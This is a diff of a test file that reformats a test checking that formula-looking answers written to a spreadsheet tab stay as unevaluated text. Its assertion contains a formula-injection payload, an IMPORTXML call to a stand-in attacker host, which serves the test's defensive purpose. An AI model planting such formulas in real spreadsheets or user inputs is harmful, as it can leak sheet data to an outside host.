@@ -37,9 +37,15 @@ describe('bad-input corpus through the local servers', () => {
   });
 
   it('leaves formula-looking answers as the same text in the sheet (nothing is evaluated)', async () => {
-    const formulaCases = CASES.filter((c) => c.rows.some((r) => Object.values(r).some((v) => typeof v === 'string' && v.startsWith('='))));
+    const formulaCases = CASES.filter((c) =>
+      c.rows.some((r) => Object.values(r).some((v) => typeof v === 'string' && v.startsWith('='))),
+    );
     expect(formulaCases.length).toBeGreaterThan(0);
-    const values = await stack.api.spreadsheets.values.get({ spreadsheetId: SPREADSHEET_ID, range: `'${TAB.checks}'`, valueRenderOption: 'FORMULA' });
+    const values = await stack.api.spreadsheets.values.get({
+      spreadsheetId: SPREADSHEET_ID,
+      range: `'${TAB.checks}'`,
+      valueRenderOption: 'FORMULA',
+    });
     const header = (values.data.values?.[0] ?? []).map(String);
     const codes = (values.data.values ?? []).map((r) => String(r[header.indexOf('Mã đơn vị')] ?? ''));
     expect(codes).toContain('=IMPORTXML("HTTP://EVIL.EXAMPLE/","//A")');
